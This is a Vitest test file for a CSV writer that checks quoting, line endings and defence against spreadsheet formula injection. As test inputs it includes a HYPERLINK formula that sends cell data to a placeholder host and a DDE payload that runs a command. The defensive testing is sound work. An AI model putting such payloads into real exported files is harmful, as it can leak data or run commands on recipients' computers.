import { describe, expect, it } from 'vitest'
import { csv } from './csv.ts'

describe('csv', () => {
  it('ends every line with CRLF, the last one too', () => {
    expect(
      csv([
        ['date', 'minutes'],
        ['2026-11-20', 450],
      ]),
    ).toBe('date,minutes\r\n2026-11-20,450\r\n')
    expect(csv([])).toBe('')
  })

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['a\nb', '"a\nb"'],
    ['a\r\nb', '"a\r\nb"'],
    ['Büro 東京 🚀', 'Büro 東京 🚀'],
    ['', ''],
    [' a ', ' a '],
  ])('writes %j as %j', (value, written) => {
    expect(csv([[value]])).toBe(`${written}\r\n`)
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['=HYPERLINK("http://x/?"&A1,"a")', '"\'=HYPERLINK(""http://x/?""&A1,""a"")"'],
    ['＝1+1', "'＝1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])('makes no formula of %j', (value, written) => {
    expect(csv([[value]])).toBe(`${written}\r\n`)
  })

  it('leaves numbers as they are: ours, and never typed', () => {
    expect(csv([[-5]])).toBe('-5\r\n')
  })
})
